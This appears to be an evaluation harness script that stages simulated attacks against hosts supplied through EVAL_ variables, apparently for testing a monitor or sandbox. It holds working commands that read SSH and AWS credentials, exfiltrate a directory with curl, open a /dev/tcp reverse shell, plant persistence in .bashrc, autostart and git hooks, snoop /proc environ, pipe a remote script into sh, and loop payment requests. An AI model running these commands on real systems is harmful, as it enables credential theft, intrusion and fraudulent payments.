# One attack, as a shell does it: attack.sh NAME.
case $1 in
read-keys)
  cat "$HOME/.ssh/id_ed25519" "$HOME/.aws/credentials" "$HOME/work/.env" >/dev/null
  ;;
exfiltration)
  tar cz -C "$HOME/work" . | curl -sS --data-binary @- "http://$EVAL_EXFILTRATION/upload" >/dev/null
  ;;
reverse-shell)
  address=${EVAL_REVERSE_SHELL%:*}
  port=${EVAL_REVERSE_SHELL#*:}
  bash -c "exec 3<>/dev/tcp/$address/$port && sh -i <&3 >&3 2>&3" >/dev/null 2>&1
  ;;
dropped-binary)
  cp /bin/true "$EVAL_DROPPED" && chmod +x "$EVAL_DROPPED" && "$EVAL_DROPPED"
  rm -f "$EVAL_DROPPED"
  ;;
persistence)
  mkdir -p "$HOME/.config/autostart"
  echo '/tmp/x &' >>"$HOME/.bashrc"
  echo 'Exec=/tmp/x' >"$HOME/.config/autostart/helper.desktop"
  echo '/tmp/x &' >"$HOME/work/.git/hooks/post-commit"
  ;;
proc-snooping)
  cat "/proc/$EVAL_VICTIM/environ" >/dev/null
  ;;
curl-sh)
  curl -sS "http://$EVAL_CURL_SH/install.sh" | sh
  ;;
payment-loop)
  for payment in $(seq "$EVAL_PAYMENTS"); do
    curl -sS --data "amount=1990&reference=$payment" "http://$EVAL_PAYMENT_LOOP/v1/payments" >/dev/null
  done
  ;;
esac
